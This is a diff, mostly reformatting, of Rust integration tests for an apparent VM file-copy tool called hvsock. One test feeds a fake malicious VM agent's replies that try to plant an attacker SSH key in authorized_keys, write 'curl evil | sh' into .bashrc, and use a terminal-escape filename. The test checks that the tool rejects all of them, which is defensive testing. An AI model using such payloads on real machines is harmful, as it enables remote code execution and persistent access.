@@ -232,7 +232,9 @@ fn temp_files(dir: &Path) -> Vec<String> {
     std::fs::read_dir(dir)
         .unwrap()
         .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
-        .filter(|n| (n.starts_with(".hvsock-") && n.ends_with(".tmp")) || n.ends_with(".hvsock-tmp"))
+        .filter(|n| {
+            (n.starts_with(".hvsock-") && n.ends_with(".tmp")) || n.ends_with(".hvsock-tmp")
+        })
         .collect()
 }
 
@@ -1176,7 +1178,10 @@ fn demo_runs_end_to_end_and_cleans_up() {
 /// A fake agent bound in vm1 (where `hvsock agent` would be): for each of `replies`,
 /// accepts one connection, answers Hello, reads the request, sends the reply's frames
 /// and reads until the client hangs up.
-fn fake_vm_agent(env: &Env, replies: Vec<Vec<hvsock_agent::proto::Frame>>) -> thread::JoinHandle<()> {
+fn fake_vm_agent(
+    env: &Env,
+    replies: Vec<Vec<hvsock_agent::proto::Frame>>,
+) -> thread::JoinHandle<()> {
     use hvsock_agent::proto::{self, Frame, VERSION};
     let listener = Context::local(env.dirs(), "vm1")
         .unwrap()
@@ -1222,26 +1227,47 @@ fn cp_from_a_fake_vm_cannot_replace_authorized_keys_nor_drive_the_terminal() {
     std::fs::create_dir_all(&ssh).unwrap();
     std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o700)).unwrap();
     std::fs::write(ssh.join("authorized_keys"), "mine\n").unwrap();
-    std::fs::set_permissions(ssh.join("authorized_keys"), std::fs::Permissions::from_mode(0o600))
-        .unwrap();
+    std::fs::set_permissions(
+        ssh.join("authorized_keys"),
+        std::fs::Permissions::from_mode(0o600),
+    )
+    .unwrap();
     std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
     let file = |path: &str, mode: u32, data: &[u8]| {
         vec![
-            Frame::File { path: path.into(), mode, size: data.len() as u64 },
+            Frame::File {
+                path: path.into(),
+                mode,
+                size: data.len() as u64,
+            },
             Frame::Data(data.to_vec().into()),
-            Frame::FileEnd { sha256: Sha256::digest(data).into() },
+            Frame::FileEnd {
+                sha256: Sha256::digest(data).into(),
+            },
         ]
     };
     let total = |frames: &[Frame]| {
-        let files = frames.iter().filter(|f| matches!(f, Frame::File { .. })).count() as u64;
+        let files = frames
+            .iter()
+            .filter(|f| matches!(f, Frame::File { .. }))
+            .count() as u64;
         let bytes = frames
             .iter()
-            .map(|f| if let Frame::File { size, .. } = f { *size } else { 0 })
+            .map(|f| {
+                if let Frame::File { size, .. } = f {
+                    *size
+                } else {
+                    0
+                }
+            })
             .sum();
         Frame::CopyTotal { files, bytes }
     };
     let key = b"ssh-ed25519 AAAA attacker\n";
-    let mut ssh_tree = vec![Frame::Dir { path: ".ssh".into(), mode: 0o777 }];
+    let mut ssh_tree = vec![Frame::Dir {
+        path: ".ssh".into(),
+        mode: 0o777,
+    }];
     ssh_tree.extend(file(".ssh/authorized_keys", 0o666, key));
     let bashrc = file(".bashrc", 0o644, b"curl evil | sh\n");
     let evil_name = file("\x1b]0;owned\x07\x1b[2J", 0o644, b"x");
@@ -1263,14 +1289,26 @@ fn cp_from_a_fake_vm_cannot_replace_authorized_keys_nor_drive_the_terminal() {
         let out = run(c, b"");
         let e = stderr(&out);
         assert_eq!(code(&out), 1, "reply {i}: {e}");
-        assert!(e.starts_with("hvsock: ") && e.lines().count() == 1, "reply {i}: {e}");
-        assert!(!e.trim_end().chars().any(|c| c.is_control()), "reply {i}: {e:?}");
+        assert!(
+            e.starts_with("hvsock: ") && e.lines().count() == 1,
+            "reply {i}: {e}"
+        );
+        assert!(
+            !e.trim_end().chars().any(|c| c.is_control()),
+            "reply {i}: {e:?}"
+        );
     }
     fake.join().unwrap();
-    assert_eq!(std::fs::read_to_string(ssh.join("authorized_keys")).unwrap(), "mine\n");
+    assert_eq!(
+        std::fs::read_to_string(ssh.join("authorized_keys")).unwrap(),
+        "mine\n"
+    );
     assert_eq!(mode(&ssh.join("authorized_keys")), 0o600);
     assert_eq!(mode(&ssh), 0o700);
-    assert_eq!(std::fs::read_to_string(home.join(".bashrc")).unwrap(), "# mine\n");
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# mine\n"
+    );
     let mut names: Vec<_> = std::fs::read_dir(&home)
         .unwrap()
         .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
@@ -1288,13 +1326,29 @@ fn cp_idle_timeout_names_the_stalled_file() {
     let fake = fake_vm_agent(
         &env,
         vec![vec![
-            Frame::CopyTotal { files: 1, bytes: 10 },
-            Frame::File { path: "syslog".into(), mode: 0o644, size: 10 },
+            Frame::CopyTotal {
+                files: 1,
+                bytes: 10,
+            },
+            Frame::File {
+                path: "syslog".into(),
+                mode: 0o644,
+                size: 10,
+            },
             Frame::Data(b"12345".to_vec().into()),
         ]],
     );
     let dst = env.path("got");
-    let out = env.run(&["cp", "--idle-timeout", "300ms", "vm1:/var/log/syslog", dst.to_str().unwrap()], b"");
+    let out = env.run(
+        &[
+            "cp",
+            "--idle-timeout",
+            "300ms",
+            "vm1:/var/log/syslog",
+            dst.to_str().unwrap(),
+        ],
+        b"",
+    );
     let e = stderr(&out);
     assert_eq!(code(&out), 1, "{e}");
     assert!(e.contains("idle timeout") && e.contains("syslog"), "{e}");
